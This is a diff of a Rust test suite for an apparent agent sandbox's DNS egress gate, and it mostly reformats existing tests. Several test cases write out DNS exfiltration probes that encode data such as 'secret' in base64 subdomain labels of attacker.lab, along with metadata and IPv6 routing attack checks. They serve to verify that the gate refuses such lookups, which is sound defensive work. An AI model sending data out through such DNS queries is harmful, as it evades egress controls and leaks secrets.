@@ -96,11 +96,41 @@ fn matrix() -> Vec<Case> {
     let mut m = vec![
         // First the agent looks the allowlisted names up, through the gate (the resolver's
         // address is the gate's too): only then are their addresses open.
-        case(via("public.lab", addr::DNS_V4, "A"), "look up an allowlisted name (A)", Pass, Pass, Live),
-        case(via("public.lab", addr::DNS_V6, "AAAA"), "look up an allowlisted name (AAAA)", Pass, Pass, Live),
-        case(via("api.lab", addr::DNS_V4, "A"), "look up an allowlisted name:port", Pass, Pass, Live),
-        case(via("internal.lab", addr::DNS_V4, "A"), "look up an allowlisted internal name", Pass, Pass, Live),
-        case(via("metadata.lab", addr::DNS_V4, "A"), "look up a name that points at metadata", Pass, Pass, Live),
+        case(
+            via("public.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted name (A)",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("public.lab", addr::DNS_V6, "AAAA"),
+            "look up an allowlisted name (AAAA)",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("api.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted name:port",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("internal.lab", addr::DNS_V4, "A"),
+            "look up an allowlisted internal name",
+            Pass,
+            Pass,
+            Live,
+        ),
+        case(
+            via("metadata.lab", addr::DNS_V4, "A"),
+            "look up a name that points at metadata",
+            Pass,
+            Pass,
+            Live,
+        ),
         case("then".to_owned(), "the lookups are done", Pass, Pass, Live),
         // Allowlisted in both modes.
         case(
@@ -558,14 +588,20 @@ fn matrix() -> Vec<Case> {
         // itself (checked below, with the resolver's log as the witness); over UDP and TCP, to
         // the resolver and to a hard-coded public address, A and AAAA.
         case(
-            format!("dns c2VjcmV0.attacker.lab --server {} {UDP_T}", addr::DNS_V4),
+            format!(
+                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
+                addr::DNS_V4
+            ),
             "not allowlisted name (UDP)",
             Pass,
             Pass,
             Live,
         ),
         case(
-            format!("dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}", addr::DNS_V4),
+            format!(
+                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
+                addr::DNS_V4
+            ),
             "not allowlisted name (TCP)",
             Pass,
             Pass,
@@ -822,24 +858,50 @@ fn run_matrix_with(egress: &str, fakes: &[(String, PathBuf)], backend: &str) {
         failures.push("the lab resolver never saw a query for public.lab".into());
     }
     for (check, label) in [
-        (format!("dns c2VjcmV0.attacker.lab --server {} {UDP_T}", addr::DNS_V4), "c2VjcmV0"),
-        (format!("dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}", addr::DNS_V4), "dGNw"),
-        (format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"), "aGFyZA"),
+        (
+            format!(
+                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
+                addr::DNS_V4
+            ),
+            "c2VjcmV0",
+        ),
+        (
+            format!(
+                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
+                addr::DNS_V4
+            ),
+            "dGNw",
+        ),
+        (
+            format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"),
+            "aGFyZA",
+        ),
     ] {
         let line = run.check(&check);
-        let reached = dns_log.to_ascii_lowercase().contains(&label.to_ascii_lowercase());
+        let reached = dns_log
+            .to_ascii_lowercase()
+            .contains(&label.to_ascii_lowercase());
         if egress == "allowlist" {
             if line.is_none_or(|l| l["rcode"] != 3) {
-                failures.push(format!("{check}: want NXDOMAIN from the gate, got {line:?}"));
+                failures.push(format!(
+                    "{check}: want NXDOMAIN from the gate, got {line:?}"
+                ));
             }
             if reached {
-                failures.push(format!("{label}.attacker.lab reached the lab resolver: {dns_log}"));
+                failures.push(format!(
+                    "{label}.attacker.lab reached the lab resolver: {dns_log}"
+                ));
             }
-            if !run.stderr.contains(&format!("dns: refused {}.attacker.lab (not allowlisted)", label.to_ascii_lowercase())) {
+            if !run.stderr.contains(&format!(
+                "dns: refused {}.attacker.lab (not allowlisted)",
+                label.to_ascii_lowercase()
+            )) {
                 failures.push(format!("no refusal logged for {label}.attacker.lab"));
             }
         } else if !reached {
-            failures.push(format!("open egress: {label}.attacker.lab was not forwarded"));
+            failures.push(format!(
+                "open egress: {label}.attacker.lab was not forwarded"
+            ));
         }
     }
     // A name that resolves into metadata space opens nothing, and says so.
@@ -1189,12 +1251,21 @@ fn dead_resolver_boot_completes_and_lookups_fail_with_servfail() {
         "boot with a dead resolver and 10 names took {:?}",
         run.elapsed
     );
-    assert_eq!(run.code, Some(0), "boot with a dead resolver: {}", run.stderr);
+    assert_eq!(
+        run.code,
+        Some(0),
+        "boot with a dead resolver: {}",
+        run.stderr
+    );
     assert!(ran, "the agent did not run");
     let lookup = format!("dns dead0.lab --server {} --timeout-ms 5000", addr::DEAD_V4);
     let run = lab.sandbox(&config, &[], &["batch", &lookup]);
     let line = run.check(&lookup).cloned().unwrap_or_default();
-    assert_eq!(line["rcode"], 2, "want SERVFAIL from the gate: {line}\n{}", run.stderr);
+    assert_eq!(
+        line["rcode"], 2,
+        "want SERVFAIL from the gate: {line}\n{}",
+        run.stderr
+    );
 }
 
 fn rules(lab: &Lab, cmd: &str) -> String {
@@ -1522,7 +1593,10 @@ fn attack_host_on_its_public_and_global_addresses_is_refused() {
     // Sandboxed, the agent looks public.lab up first (through the gate), as any client does.
     let lookups = [
         format!("dns public.lab --server {} --type A {UDP_T}", addr::DNS_V4),
-        format!("dns public.lab --server {} --type AAAA {UDP_T}", addr::DNS_V4),
+        format!(
+            "dns public.lab --server {} --type AAAA {UDP_T}",
+            addr::DNS_V4
+        ),
     ];
     let mut guarded: Vec<&str> = vec!["batch", &lookups[0], &lookups[1], "then"];
     guarded.extend(all.iter().map(String::as_str));
@@ -1688,7 +1762,10 @@ fn attack_ipv6_segment_routing_header_to_an_internal_host_arrives_nowhere() {
             egress,
             &["public.lab".into()],
         );
-        let lookup = format!("dns public.lab --server {} --type AAAA {UDP_T}", addr::DNS_V4);
+        let lookup = format!(
+            "dns public.lab --server {} --type AAAA {UDP_T}",
+            addr::DNS_V4
+        );
         let run = lab.sandbox_replacing(
             &fakes,
             &config,
